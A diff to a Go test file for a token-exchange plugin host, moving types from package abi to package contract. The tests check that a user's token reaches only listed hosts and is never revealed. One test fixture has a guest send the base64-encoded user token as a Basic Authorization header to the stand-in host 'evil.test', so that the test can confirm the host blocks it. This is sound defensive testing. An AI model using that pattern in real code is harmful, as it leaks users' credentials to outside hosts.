@@ -13,10 +13,11 @@ import (
 
 	"github.com/keywright/keywright/abi"
 	"github.com/keywright/keywright/host"
+	"github.com/keywright/keywright/internal/contract"
 )
 
 // onBehalf is the description of a guest that exchanges the user's token.
-var onBehalf = abi.Description{Uses: abi.Groups, Fields: []abi.Field{
+var onBehalf = abi.Description{Uses: contract.Groups, Fields: []abi.Field{
 	sealedField("subject", abi.SinkToken, abi.SinkHeader), sealedField("header_only", abi.SinkHeader),
 	{Name: "plain", Kind: abi.KindString, Sinks: []string{abi.SinkToken}},
 	{Name: "object", Kind: abi.KindObject, Sinks: []string{abi.SinkToken}},
@@ -27,7 +28,7 @@ var onBehalf = abi.Description{Uses: abi.Groups, Fields: []abi.Field{
 }}
 
 // onBehalfWorld returns a world whose guest does what authenticate does, with login.test and no other host listed.
-func onBehalfWorld(t *testing.T, authenticate func(abi.Env) (string, error), change ...func(*host.Config)) *world {
+func onBehalfWorld(t *testing.T, authenticate func(contract.Env) (string, error), change ...func(*host.Config)) *world {
 	t.Helper()
 	g := &guest{about: onBehalf, authenticate: authenticate}
 	return newWorld(t, append([]func(*host.Config){withoutBuiltIns, withGuest(g), listed("login.test")}, change...)...)
@@ -48,12 +49,12 @@ func (w *world) until(token string, expires time.Time) *http.Request {
 }
 
 // cachedExchange exchanges the user's token unless the cache has what it was exchanged for, for a day.
-func cachedExchange(env abi.Env) (string, error) {
+func cachedExchange(env contract.Env) (string, error) {
 	if token, ok := env.CacheGet("token"); ok {
 		return header("Authorization", "Bearer "+token), nil
 	}
-	document := env.TokenRequest([]byte(marshal(abi.TokenRequest{URL: value(env, "url"), Form: []abi.Pair{{Name: "subject_token", Value: value(env, "subject")}}})))
-	var r abi.TokenReply
+	document := env.TokenRequest([]byte(marshal(contract.TokenRequest{URL: value(env, "url"), Form: []abi.Pair{{Name: "subject_token", Value: value(env, "subject")}}})))
+	var r contract.TokenReply
 	if err := json.Unmarshal(document, &r); err != nil {
 		return "", err
 	}
@@ -117,13 +118,13 @@ func TestUserTokenGoesToListedHostsOnly(t *testing.T) {
 // threats.md 96: the token keeps its bounds in the cache, and a redirect of a listed host is not followed.
 func TestUserTokenStaysWithListedHosts(t *testing.T) {
 	t.Run("from the cache", func(t *testing.T) {
-		w := onBehalfWorld(t, func(env abi.Env) (string, error) {
+		w := onBehalfWorld(t, func(env contract.Env) (string, error) {
 			subject, ok := env.CacheGet("subject")
 			if !ok {
-				env.CacheSet("subject", env.Encode(abi.FormatBase64, "user:"+value(env, "subject")), 60)
+				env.CacheSet("subject", env.Encode(contract.FormatBase64, "user:"+value(env, "subject")), 60)
 				return header("X", "1"), nil
 			}
-			env.Exchange([]byte(marshal(abi.Exchange{URL: value(env, "url"), Headers: []abi.Pair{{Name: "Authorization", Value: "Basic " + subject}}})))
+			env.Exchange([]byte(marshal(contract.Exchange{URL: value(env, "url"), Headers: []abi.Pair{{Name: "Authorization", Value: "Basic " + subject}}})))
 			return header("X", "1"), nil
 		})
 		connector := w.connect("custom", config{"url": "https://evil.test/", "subject": "{{ user.token }}"})
@@ -201,7 +202,7 @@ func TestUserTokenStandsInFieldsForTokenEndpoints(t *testing.T) {
 
 // threats.md 97: no plugin gets the user's token in plain, not even one that the operator trusts with secrets.
 func TestUserTokenNeverRevealed(t *testing.T) {
-	g := &guest{about: onBehalf, authenticate: func(env abi.Env) (string, error) {
+	g := &guest{about: onBehalf, authenticate: func(env contract.Env) (string, error) {
 		return header("Authorization", string(env.Reveal(value(env, "subject")))), nil
 	}}
 	w := newWorld(t, withoutBuiltIns, withGuest(g, abi.GrantReveal), listed("login.test"))
@@ -291,15 +292,15 @@ func TestNothingOutlivesTheUsersToken(t *testing.T) {
 func TestKeptAnswersDoNotOutliveTheUsersToken(t *testing.T) {
 	about := onBehalf
 	about.Challenge = &abi.Challenge{Keep: 3600, Answers: []abi.Answer{
-		{Name: "session", From: "cookie:S", Kind: abi.AnswerSealed, Sinks: []string{abi.SinkHeader}, Keep: true},
+		{Name: "session", From: "cookie:S", Kind: contract.AnswerSealed, Sinks: []string{abi.SinkHeader}, Keep: true},
 	}}
 	about.Anonymous = true
-	g := &guest{about: about, authenticate: func(env abi.Env) (string, error) {
+	g := &guest{about: about, authenticate: func(env contract.Env) (string, error) {
 		value(env, "subject")
 		if session := kept(env)["session"]; session != "" {
 			return header("X-Session", session), nil
 		}
-		return marshal(abi.Mutation{}), nil
+		return marshal(contract.Mutation{}), nil
 	}}
 	w := newWorld(t, withoutBuiltIns, withGuest(g), listed("login.test"))
 	w.api.Answer(respond(http.StatusOK, "", "Set-Cookie", "S=the-session-of-the-api"))
@@ -357,8 +358,8 @@ func TestUnlistedHostWarning(t *testing.T) {
 }
 
 // kept returns the answers of the API that were kept.
-func kept(env abi.Env) map[string]string {
-	var r abi.ChallengeReply
+func kept(env contract.Env) map[string]string {
+	var r contract.ChallengeReply
 	if err := json.Unmarshal(env.Challenge(), &r); err != nil {
 		panic("a test's reply: " + err.Error())
 	}
